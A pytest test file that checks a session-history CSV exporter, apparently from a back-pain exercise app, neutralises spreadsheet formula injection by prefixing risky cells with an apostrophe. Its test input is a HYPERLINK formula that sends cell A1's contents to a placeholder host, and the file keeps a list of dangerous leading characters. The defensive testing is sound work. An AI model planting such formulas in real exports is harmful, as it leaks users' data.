"""CSV export cells a spreadsheet would run as a formula are written as text (a leading `'`),
and everything else is exactly as before, with RFC 4180 quoting."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta, timezone

import pytest

from tui.domain.sessions import HoldRecord, Session
from tui.storage.documents import CSV_COLUMNS, FORMULA_STARTS, sessions_to_csv

START = datetime(2026, 3, 4, 8, 0, tzinfo=timezone.utc)


def session(**fields) -> Session:
    values = dict(id="s1", routine_id="back-spasm-relief", routine_name="Back spasm relief", started_at=START,
                  ended_at=START + timedelta(minutes=5), status="completed", holds_planned=1,
                  holds=(HoldRecord("pelvic-tilt", None, 1, 10, 10.0, True),), pain_before=6, pain_after=3, note="")
    values.update(fields)
    return Session(**values)


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_the_dangerous_first_characters_are_the_contracts() -> None:
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


@pytest.mark.parametrize("first", FORMULA_STARTS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
@pytest.mark.parametrize("column", ["note", "routine_name", "routine_id", "id"])
def test_a_text_cell_starting_like_a_formula_gets_a_quote_in_front(first: str, column: str) -> None:
    value = f"{first}HYPERLINK(\"http://example.invalid/?\"&A1, \"click\")"
    [row] = rows(sessions_to_csv([session(**{column: value})]))
    assert row[column] == "'" + value
    untouched = {"id": "s1", "routine_id": "back-spasm-relief", "routine_name": "Back spasm relief", "note": ""}
    untouched.pop(column)
    assert {k: row[k] for k in untouched} == untouched


def test_the_same_characters_later_in_a_cell_are_left_alone() -> None:
    note = "pain 5-3 = better, email me@example.invalid +1"
    [row] = rows(sessions_to_csv([session(note=note)]))
    assert row["note"] == note


def test_number_cells_are_never_negative_so_never_quoted() -> None:
    [row] = rows(sessions_to_csv([session(pain_before=0, pain_after=10)]))
    numbers = {k: row[k] for k in ("holds_done", "holds_planned", "seconds_held", "pain_before", "pain_after")}
    assert numbers == {"holds_done": "1", "holds_planned": "1", "seconds_held": "10.0",
                       "pain_before": "0", "pain_after": "10"}
    assert not any(value.startswith(FORMULA_STARTS) for value in row.values() if value)


def test_rfc_4180_quoting_holds_for_a_quoted_cell() -> None:
    note = '=1+2, "quoted"\r\nsecond line'
    text = sessions_to_csv([session(note=note)])
    assert "\"'=1+2, \"\"quoted\"\"\r\nsecond line\"" in text
    [row] = rows(text)
    assert row["note"] == "'" + note and tuple(row) == CSV_COLUMNS
